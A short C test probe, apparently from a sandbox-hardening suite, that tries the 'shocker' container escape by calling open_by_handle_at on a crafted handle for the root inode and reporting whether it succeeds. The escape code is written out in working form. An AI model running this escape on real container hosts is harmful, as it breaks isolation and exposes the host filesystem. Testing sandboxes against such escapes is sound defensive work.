/* open_by_handle_at: the "shocker" escape: open the root directory's inode by
   handle, which walks past any mount namespace or chroot.  Escaped: a
   descriptor. */
#include "hostile.h"
#include <sys/syscall.h>

int main(void)
{
	hostile_begin();
	struct note d = { 0 };
	struct {
		unsigned int handle_bytes;
		int handle_type;
		unsigned char f_handle[8];
	} h = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } }; /* FILEID_INO32_GEN, inode 2 */
	int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	long fd = syscall(SYS_open_by_handle_at, mfd, &h, O_RDONLY);
	note_rc(&d, "open_by_handle_at(inode 2)", fd);
	return report(fd >= 0, d.buf);
}
